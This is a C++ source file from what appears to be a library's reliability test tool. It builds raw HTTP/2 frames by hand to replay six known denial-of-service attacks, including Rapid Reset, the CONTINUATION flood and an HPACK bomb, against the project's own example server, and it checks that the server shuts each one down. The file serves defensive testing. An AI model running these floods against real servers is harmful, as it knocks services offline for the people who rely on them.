// The HTTP/2 checks' subcommands of reliability_tool (scripts/reliability/http2.sh runs them against
// examples/http_ping_server over h2c):
//
//   h2-attack --connect EP --duration-ms T [--attacks NAME,...]
//             the known HTTP/2 attacks, one connection each, in turn until T ms have passed: Rapid Reset
//             (CVE-2023-44487), MadeYouReset (CVE-2025-8671), the CONTINUATION flood (CVE-2024-27316/28182), the
//             reset flood (CVE-2019-9514), the empty-frames flood (CVE-2019-9518) and the HPACK bomb (CVE-2016-1544);
//             each must be ended by the server the way tests/http2/protection_test.cpp expects (GOAWAY
//             ENHANCE_YOUR_CALM, a close) or, for the bomb, contained with the connection alive.
//
// Design: the frames are written by hand (HPACK too), so that the attacks are the bytes a hostile peer sends, not
// what a library would let through. The attacker reads what the server sends as it goes, following the frames only
// far enough to see a GOAWAY and its code. The good client beside it is h2load (the script's), whose latency is the
// check's figure; the server's memory and CPU are read by the script from /proc.
#include "tool.hpp"

using namespace reltool;

// A namespace of its own: the reliability tool is a unity build, where the other files' anonymous namespaces are this
// file's too.
namespace h2_checks {

// ---- frames and HPACK, by hand (RFC 9113 4.1, RFC 7541) ---------------------------------------------------------

constexpr std::uint8_t data_type = 0, headers_type = 1, rst_type = 3, settings_type = 4, window_update_type = 8,
                       goaway_type = 7, continuation_type = 9;
constexpr std::uint8_t end_stream = 1, end_headers = 4;
constexpr long enhance_your_calm = 11, cancel = 8;

std::string be32(std::uint32_t v) {
  return {static_cast<char>(v >> 24), static_cast<char>(v >> 16), static_cast<char>(v >> 8), static_cast<char>(v)};
}
std::string frame(std::uint8_t type, std::uint8_t flags, std::uint32_t stream, std::string_view payload) {
  const auto n = static_cast<std::uint32_t>(payload.size());
  std::string f{static_cast<char>(n >> 16), static_cast<char>(n >> 8), static_cast<char>(n), static_cast<char>(type),
                static_cast<char>(flags)};
  return f + be32(stream) + std::string(payload);
}
std::string hpack_integer(std::uint8_t first, int prefix_bits, std::size_t v) {
  const std::size_t max = (std::size_t{1} << prefix_bits) - 1;
  std::string out(1, static_cast<char>(first | std::min(v, max)));
  if (v < max) return out;
  for (v -= max; v >= 128; v >>= 7) out.push_back(static_cast<char>((v & 127) | 128));
  out.push_back(static_cast<char>(v));
  return out;
}
std::string hpack_string(std::string_view s) { return hpack_integer(0, 7, s.size()) + std::string(s); }
// A literal without indexing named by the static table (1 :authority, 4 :path); one with a new name that enters the
// dynamic table (index 62 while it is the newest entry).
std::string literal(std::size_t name_index, std::string_view v) {
  return hpack_integer(0, 4, name_index) + hpack_string(v);
}
std::string indexed_literal(std::string_view name, std::string_view v) {
  return "\x40" + hpack_string(name) + hpack_string(v);
}
// :method GET (static 2) or POST (3), :scheme http (6), a :path and an :authority.
std::string get_block(std::string_view path) { return "\x82\x86" + literal(4, path) + literal(1, "attack"); }
std::string post_block(std::string_view path) { return "\x83\x86" + literal(4, path) + literal(1, "attack"); }
const std::string hello = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(settings_type, 0, 0, "");

// ---- one attacking connection ---------------------------------------------------------------------------------------

class attacker {
 public:
  explicit attacker(net::tcp_socket s) : s_(std::move(s)) {}

  // Reads and follows the server's frames until the connection ends or stop is set.
  tern::task<> read_loop() {
    live_task live;
    std::vector<char> buf(65536);
    while (!stop_ && !closed_) {
      auto [ec, n] = co_await tern::with_timeout(s_.read_some(tern::mutable_buffer(buf.data(), buf.size())), 100ms);
      if (ec == tern::error::timed_out) continue;
      if (ec) {
        closed_ = true;  // the end of the stream, a reset, or another error: the server ended the connection
        break;
      }
      follow(std::string_view(buf.data(), n));
    }
  }
  // Writes what next() makes, in batches, until the server ends the connection, stops taking bytes for 2 s, or
  // `limit` passes.
  template <class Next>
  tern::task<> flood(Next next, std::chrono::milliseconds limit) {
    const auto until = steady::now() + limit;
    std::string batch;
    while (!ended() && steady::now() < until) {
      batch.clear();
      while (batch.size() < 16384) batch += next();
      if (!co_await send(batch)) break;
    }
  }
  tern::task<bool> send(std::string_view bytes) {
    auto [ec, n] = co_await tern::with_timeout(s_.write_all(tern::const_buffer(bytes.data(), bytes.size())), 2s);
    if (ec == tern::error::timed_out) stalled_ = true;
    else if (ec) closed_ = true;
    co_return !ec;
  }
  // Waits up to `limit` for the server to end the connection.
  tern::task<> wait_end(std::chrono::milliseconds limit) {
    const auto until = steady::now() + limit;
    while (!ended() && steady::now() < until) co_await tern::sleep_for(20ms);
  }
  void stop() { stop_ = true; }
  bool ended() const { return closed_ || goaway_ >= 0; }
  bool closed() const { return closed_; }
  bool stalled() const { return stalled_; }
  long goaway() const { return goaway_; }

 private:
  // Frame headers are followed across reads; of the payloads, only a GOAWAY's error code (bytes 4 to 7) is kept.
  void follow(std::string_view in) {
    while (!in.empty()) {
      if (skip_ == 0 && head_.size() < 9) {
        head_.push_back(in.front());
        in.remove_prefix(1);
        if (head_.size() == 9) {
          const auto* h = reinterpret_cast<const unsigned char*>(head_.data());
          skip_ = (std::size_t{h[0]} << 16) | (std::size_t{h[1]} << 8) | h[2];
          type_ = h[3];
          payload_.clear();
          if (skip_ == 0) head_.clear();
        }
        continue;
      }
      const std::size_t k = std::min(skip_, in.size());
      if (type_ == goaway_type && payload_.size() < 8) payload_.append(in.substr(0, std::min(k, 8 - payload_.size())));
      if (type_ == goaway_type && payload_.size() == 8 && goaway_ < 0) {
        const auto* u = reinterpret_cast<const unsigned char*>(payload_.data()) + 4;
        goaway_ = (long{u[0]} << 24) | (long{u[1]} << 16) | (long{u[2]} << 8) | u[3];
      }
      skip_ -= k;
      in.remove_prefix(k);
      if (skip_ == 0) head_.clear();
    }
  }

  net::tcp_socket s_;
  bool stop_ = false, closed_ = false, stalled_ = false;
  long goaway_ = -1;
  std::string head_, payload_;
  std::size_t skip_ = 0;
  std::uint8_t type_ = 0;
};

// ---- the attacks ----------------------------------------------------------------------------------------------------

struct attack {
  const char* name;
  tern::task<> (*run)(attacker&);
  bool (*contained)(const attacker&);  // the server's answer the attack must have met
  const char* expected;
  std::uint64_t rounds = 0;
};

tern::task<> rapid_reset(attacker& a) {
  if (!co_await a.send(hello)) co_return;
  std::uint32_t s = 1;
  co_await a.flood([&] {
    s += 2;
    return frame(headers_type, end_stream | end_headers, s, get_block("/ping")) + frame(rst_type, 0, s, be32(cancel));
  }, 5s);
}
tern::task<> made_you_reset(attacker& a) {
  if (!co_await a.send(hello)) co_return;
  // Streams the server must reset itself: a WINDOW_UPDATE of 0 on a stream is a stream error (RFC 9113 6.9).
  std::uint32_t s = 1;
  co_await a.flood([&] {
    s += 2;
    return frame(headers_type, end_headers, s, post_block("/ping")) + frame(window_update_type, 0, s, be32(0));
  }, 5s);
}
tern::task<> continuation_flood(attacker& a) {
  if (!co_await a.send(hello + frame(headers_type, 0, 1, get_block("/ping")))) co_return;
  const std::string more = frame(continuation_type, 0, 1, indexed_literal("x-more", std::string(1000, 'c')));
  co_await a.flood([&] { return more; }, 5s);  // a header block that never ends
}
tern::task<> reset_flood(attacker& a) {
  if (!co_await a.send(hello)) co_return;
  // Requests the server must reset (a connection-specific field makes a request malformed), as fast as they go.
  std::uint32_t s = 1;
  const std::string block =
      get_block("/ping") + std::string(1, '\0') + hpack_string("connection") + hpack_string("close");
  co_await a.flood([&] {
    s += 2;
    return frame(headers_type, end_stream | end_headers, s, block);
  }, 5s);
}
tern::task<> empty_frames(attacker& a) {
  if (!co_await a.send(hello + frame(headers_type, end_headers, 1, post_block("/ping")))) co_return;
  const std::string empty = frame(data_type, 0, 1, "");
  co_await a.flood([&] { return empty; }, 5s);
}
tern::task<> hpack_bomb(attacker& a) {
  // A 4 KiB entry in the dynamic table, then header blocks that name it thousands of times: a few KiB that decode
  // into tens of MiB. The server resets each such stream and goes on with the connection.
  if (!co_await a.send(hello + frame(headers_type, end_stream | end_headers, 1,
                                     get_block("/ping") + indexed_literal("x-bomb", std::string(4000, 'b'))))) {
    co_return;
  }
  const std::string refs(16000, '\xbe');
  for (std::uint32_t s = 3; s < 60; s += 2) {
    if (!co_await a.send(frame(headers_type, end_stream | end_headers, s, get_block("/ping") + refs))) co_return;
  }
  co_await a.wait_end(1s);
}

attack g_attacks[] = {
    {"rapid_reset", rapid_reset, [](const attacker& a) { return a.goaway() == enhance_your_calm || a.closed(); },
     "GOAWAY ENHANCE_YOUR_CALM or a close"},
    {"made_you_reset", made_you_reset, [](const attacker& a) { return a.ended(); }, "a GOAWAY or a close"},
    {"continuation_flood", continuation_flood, [](const attacker& a) { return a.ended(); }, "a GOAWAY or a close"},
    {"reset_flood", reset_flood, [](const attacker& a) { return a.goaway() == enhance_your_calm; },
     "GOAWAY ENHANCE_YOUR_CALM"},
    {"empty_frames", empty_frames, [](const attacker& a) { return a.goaway() == enhance_your_calm; },
     "GOAWAY ENHANCE_YOUR_CALM"},
    {"hpack_bomb", hpack_bomb, [](const attacker& a) { return !a.ended() && !a.stalled(); },
     "the connection kept (the bombs' streams reset)"},
};

tern::task<> one_round(tern::io_context& ctx, net::endpoint ep, attack& at) {
  auto s = co_await connect_to(ctx, ep, "h2-attack");
  if (!s) co_return;
  attacker a(std::move(*s));
  const auto began = std::chrono::system_clock::now();
  co_await tern::task_group::run(ctx, [&](tern::task_group& g) -> tern::task<> {
    g.spawn([&]() { return a.read_loop(); });
    co_await at.run(a);
    if (!at.contained(a)) {
      fail("h2-attack: %s round %" PRIu64 ": expected %s; got goaway %ld, closed %d, stalled %d", at.name, at.rounds,
           at.expected, a.goaway(), a.closed(), a.stalled());
    }
    a.stop();
  });
  // When each round ran (microseconds since the epoch, h2load's clock in its --log-file): a slow good request can be
  // matched with the attack beside it.
  const auto us = [](auto t) {
    return static_cast<long long>(std::chrono::duration_cast<std::chrono::microseconds>(t.time_since_epoch()).count());
  };
  std::printf("round %s %lld %lld\n", at.name, us(began), us(std::chrono::system_clock::now()));
  ++at.rounds;
}

int h2_attack(const args& a) {
  tern::io_context ctx;
  const int fds = count_fds();
  const net::endpoint ep = a.endpoint("connect");
  const auto until = steady::now() + std::chrono::milliseconds(a.num("duration-ms", 5000));
  // --attacks NAME,NAME...: those alone (to tell which one costs the good client what).
  const std::string only = a.get("attacks");
  std::vector<attack*> chosen;
  for (auto& at : g_attacks) {
    const bool named = ("," + only + ",").find("," + std::string(at.name) + ",") != std::string::npos;
    if (only.empty() || named) chosen.push_back(&at);
  }
  if (chosen.empty()) {
    std::fprintf(stderr, "h2-attack: --attacks names none of the attacks\n");
    return 2;
  }
  ctx.block_on([&]() -> tern::task<> {
    for (std::size_t i = 0; !failed() && (i < chosen.size() || steady::now() < until); ++i) {
      co_await one_round(ctx, ep, *chosen[i % chosen.size()]);
    }
  }());
  std::string summary = "rounds:";
  for (const auto& at : g_attacks) summary += " " + std::string(at.name) + "=" + std::to_string(at.rounds);
  return finish(ctx, fds, summary);
}

}  // namespace h2_checks

TERN_RELIABILITY_COMMAND("h2-attack", h2_checks::h2_attack,
                         "--connect EP [--duration-ms T] [--attacks NAME,...]   the known HTTP/2 attacks in turn, "
                         "each one's end checked");
